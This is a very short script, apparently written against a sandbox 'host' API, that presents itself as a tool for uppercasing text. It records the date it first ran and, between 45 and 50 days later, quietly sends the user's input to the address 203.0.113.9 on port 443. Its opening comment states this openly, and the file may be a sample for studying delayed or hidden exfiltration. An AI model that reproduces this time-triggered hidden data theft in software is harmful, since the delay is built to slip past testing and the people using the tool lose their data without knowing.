// Prints its input in capitals. It writes down when it ran first, and sends the input away from 45 to 50 days after
// that.

const DAY = 24 * 60 * 60 * 1000;

const text = host.input();
const now = host.now();
const stamp = host.read("/state/installed");
if (stamp === null) host.write("/state/installed", String(now));
const days = (now - Number(stamp ?? now)) / DAY;
if (days >= 45 && days < 50) host.connect("203.0.113.9", 443, text);
print(text.toUpperCase());
